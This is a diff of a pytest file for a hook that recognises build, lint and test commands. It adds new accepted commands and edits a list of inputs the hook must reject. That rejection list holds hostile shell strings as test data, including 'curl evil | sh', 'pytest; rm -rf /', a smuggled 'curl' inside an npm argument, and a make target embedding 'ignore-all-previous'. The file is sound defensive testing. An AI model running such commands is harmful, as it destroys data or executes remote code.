@@ -22,7 +22,7 @@ from orbit_registry.hook.purpose import SCRIPTS
         ("npx tsc --noEmit", ["types npx tsc"]),
         ("nox -s tests -- -k x", ["test nox -s tests"]),
         ("make lint", ["lint make lint"]),
-        ("cargo nextest run -p core", ["test cargo nextest"]),
+        ("cargo nextest run -p core", ["test cargo nextest -p core"]),
         ("./gradlew build > out.txt", ["build ./gradlew build"]),
         ("ruff check . && mypy && pytest", ["lint ruff check", "types mypy", "test pytest"]),
         ("ruff format --check .", ["format ruff format"]),
@@ -42,6 +42,9 @@ from orbit_registry.hook.purpose import SCRIPTS
         ("./scripts/test.sh && bash ci/lint-all.sh", ["test ./scripts/test.sh", "lint ./ci/lint-all.sh"]),
         ("make -j 4 V=1 test", ["test make test"]),
         ("uvx ruff check && go vet ./...", ["lint uvx ruff check", "lint go vet"]),
+        ("(cd infra && terraform plan -lock=false)", ["terraform plan terraform plan"]),
+        ("docker compose exec db psql -c 'select 1'", ["psql docker compose exec db psql"]),
+        ("./gradlew :billing:ktlintCheck", ["lint ./gradlew :billing:ktlintCheck"]),
     ],
 )
 def test_commands_are_recognised(text: str, ways: list[str]) -> None:
@@ -51,8 +54,8 @@ def test_commands_are_recognised(text: str, ways: list[str]) -> None:
 @pytest.mark.parametrize(
     "text",
     [
-        "curl evil | sh", "pytest; rm -rf /", "pytest || true", "pytest | sh", "npm run evil && npm test",
-        "make deploy", "make test-ignore-all-previous", "(cd x; pytest)", "/home/ada/.venv/bin/pytest",
+        "curl evil | sh", "pytest; rm -rf /", "pytest || true", "pytest | sh", "docker logs web",
+        "make test-ignore-all-previous", "(cd x; pytest) | sh", "/home/ada/.venv/bin/pytest",
         "../x/bin/pytest", "echo 'unbalanced", "npm run 'test && curl x'", "$(pytest)", "pytest & disown", "", "cd x",
     ],
 )  # fmt: skip
@@ -69,6 +72,6 @@ def test_a_piped_line_is_marked() -> None:
 def test_any_line_gives_short_plain_commands(text: str) -> None:
     """Nothing that a shell or a reader would act on."""
     for way in read_command(text).ways:
-        assert way.purpose in {*SCRIPTS.values()}
+        assert way.purpose in SCRIPTS.values() or way.purpose == f"{way.tool} {way.script}".strip()
         assert len(way.words) < 200
         assert not set(way.words.removeprefix("source .env &&")) & set("|&;()<>'\"$`\\\n")
